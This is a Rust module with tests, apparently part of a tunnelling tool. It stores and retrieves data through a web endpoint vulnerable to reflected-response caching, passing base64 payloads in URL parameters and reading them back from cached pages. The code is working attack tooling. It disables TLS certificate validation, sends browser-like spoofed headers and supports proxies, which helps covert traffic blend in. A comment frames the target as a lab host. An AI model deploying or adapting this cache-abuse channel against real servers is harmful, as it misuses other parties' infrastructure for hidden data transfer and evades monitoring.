//! HTTP-backed [`CacheBackend`] for the reference reflected-cache target.

use super::{CacheBackend, CacheOutcome, PayloadExtractor, SetOutcome};
use crate::error::{Result, TunnelError};
use async_trait::async_trait;
use base64::engine::general_purpose::URL_SAFE;
use base64::Engine as _;
use reqwest::header::{ACCEPT, ACCEPT_ENCODING, CONNECTION, USER_AGENT};
use std::sync::Arc;
use std::time::Duration;
use tracing::{debug, trace};
use url::Url;

const DEFAULT_USER_AGENT: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.3 Safari/605.1.15";
const DEFAULT_SLOT_PARAM: &str = "p";

/// Static configuration for an [`HttpCacheBackend`].
#[derive(Debug, Clone)]
pub struct HttpCacheConfig {
    pub base_url: Url,
    pub key_param: String,
    pub data_param: String,
    pub proxy: Option<String>,
}

impl HttpCacheConfig {
    pub fn new(base_url: Url, key_param: impl Into<String>) -> Self {
        Self {
            base_url,
            key_param: key_param.into(),
            data_param: DEFAULT_SLOT_PARAM.to_string(),
            proxy: None,
        }
    }

    pub fn with_data_param(mut self, data_param: impl Into<String>) -> Self {
        self.data_param = data_param.into();
        self
    }

    pub fn with_proxy(mut self, proxy: Option<String>) -> Self {
        self.proxy = proxy;
        self
    }
}

/// Treats a single HTTP endpoint vulnerable to reflected-response caching
/// as a `token -> bytes` map.
///
/// Every request carries a fixed, browser-like header set and ignores TLS
/// certificate validity: the target is assumed to be an internal/lab host
/// where the point is exercising the cache, not verifying its identity.
pub struct HttpCacheBackend {
    client: reqwest::Client,
    config: HttpCacheConfig,
    extractor: Arc<dyn PayloadExtractor>,
}

impl HttpCacheBackend {
    pub fn new(config: HttpCacheConfig, extractor: Arc<dyn PayloadExtractor>) -> Result<Self> {
        let mut builder = reqwest::Client::builder()
            .danger_accept_invalid_certs(true)
            .timeout(Duration::from_secs(30));

        if let Some(proxy_url) = &config.proxy {
            builder = builder.proxy(reqwest::Proxy::all(proxy_url.as_str())?);
        }

        let client = builder.build()?;

        Ok(Self {
            client,
            config,
            extractor,
        })
    }

    fn request_url(&self, token: &str, payload: Option<&[u8]>) -> Result<Url> {
        let mut url = self.config.base_url.clone();
        let mut pairs: Vec<(String, String)> = url
            .query_pairs()
            .filter(|(k, _)| k != self.config.key_param.as_str() && k != self.config.data_param.as_str())
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        pairs.push((self.config.key_param.clone(), token.to_string()));
        if let Some(bytes) = payload {
            pairs.push((self.config.data_param.clone(), URL_SAFE.encode(bytes)));
        }

        url.query_pairs_mut().clear().extend_pairs(&pairs);
        Ok(url)
    }

    async fn issue(&self, url: Url) -> Result<(bool, String)> {
        trace!(%url, "issuing cache request");
        let response = self
            .client
            .get(url)
            .header(USER_AGENT, DEFAULT_USER_AGENT)
            .header(ACCEPT_ENCODING, "gzip, deflate")
            .header(ACCEPT, "*/*")
            .header(CONNECTION, "keep-alive")
            .send()
            .await?;

        if !response.status().is_success() {
            return Err(TunnelError::BadStatus(response.status()));
        }

        let is_hit = response
            .headers()
            .get("X-Cache-Status")
            .and_then(|v| v.to_str().ok())
            .is_some_and(|v| v.contains("HIT"));

        let body = response.text().await?;
        Ok((is_hit, body))
    }
}

#[async_trait]
impl CacheBackend for HttpCacheBackend {
    async fn get(&self, token: &str) -> Result<CacheOutcome> {
        let url = self.request_url(token, None)?;
        let (is_hit, body) = self.issue(url).await?;

        if !is_hit {
            return Ok(CacheOutcome::Miss);
        }

        match self.extractor.extract(&body, token, &self.config.data_param) {
            Some(bytes) => {
                debug!(token = %token, len = bytes.len(), "cache hit, extracted payload");
                Ok(CacheOutcome::Hit(bytes))
            }
            None => {
                debug!(token = %token, "cache hit but extraction failed, treating as miss");
                Ok(CacheOutcome::Miss)
            }
        }
    }

    async fn set(&self, token: &str, value: &[u8]) -> Result<SetOutcome> {
        let url = self.request_url(token, Some(value))?;
        let (is_hit, body) = self.issue(url).await?;

        if !is_hit {
            return Ok(SetOutcome::Ok);
        }

        let existing = self
            .extractor
            .extract(&body, token, &self.config.data_param)
            .unwrap_or_default();
        debug!(token = %token, "write collided with existing entry");
        Ok(SetOutcome::AlreadyCached(existing))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::ReflectedUrlExtractor;

    fn backend(base_url: &str) -> HttpCacheBackend {
        let config = HttpCacheConfig::new(Url::parse(base_url).expect("valid url"), "key");
        HttpCacheBackend::new(config, Arc::new(ReflectedUrlExtractor::new())).expect("build backend")
    }

    #[tokio::test]
    async fn get_returns_miss_without_hit_header() {
        let mut server = mockito::Server::new_async().await;
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .with_header("X-Cache-Status", "MISS")
            .with_body("nothing cached")
            .create_async()
            .await;

        let backend = backend(&server.url());
        let outcome = backend.get("tok").await.expect("request succeeds");
        assert_eq!(outcome, CacheOutcome::Miss);
    }

    #[tokio::test]
    async fn get_extracts_payload_on_hit() {
        let mut server = mockito::Server::new_async().await;
        let value = URL_SAFE.encode(b"tunnel bytes");
        let body = format!("No results for ?key=tok&p={value}</code>");
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .with_header("X-Cache-Status", "HIT")
            .with_body(body)
            .create_async()
            .await;

        let backend = backend(&server.url());
        let outcome = backend.get("tok").await.expect("request succeeds");
        assert_eq!(outcome, CacheOutcome::Hit(b"tunnel bytes".to_vec()));
    }

    #[tokio::test]
    async fn set_reports_collision_with_existing_payload() {
        let mut server = mockito::Server::new_async().await;
        let value = URL_SAFE.encode(b"peer data");
        let body = format!("No results for ?key=tok&p={value}</code>");
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .with_header("X-Cache-Status", "HIT")
            .with_body(body)
            .create_async()
            .await;

        let backend = backend(&server.url());
        let outcome = backend.set("tok", b"mine").await.expect("request succeeds");
        assert_eq!(outcome, SetOutcome::AlreadyCached(b"peer data".to_vec()));
    }

    #[tokio::test]
    async fn set_succeeds_on_miss() {
        let mut server = mockito::Server::new_async().await;
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(200)
            .with_header("X-Cache-Status", "MISS")
            .with_body("nothing cached")
            .create_async()
            .await;

        let backend = backend(&server.url());
        let outcome = backend.set("tok", b"mine").await.expect("request succeeds");
        assert_eq!(outcome, SetOutcome::Ok);
    }

    #[tokio::test]
    async fn non_2xx_status_is_a_transport_error() {
        let mut server = mockito::Server::new_async().await;
        let _m = server
            .mock("GET", mockito::Matcher::Any)
            .with_status(500)
            .create_async()
            .await;

        let backend = backend(&server.url());
        let result = backend.get("tok").await;
        assert!(matches!(result, Err(TunnelError::BadStatus(_))));
    }
}
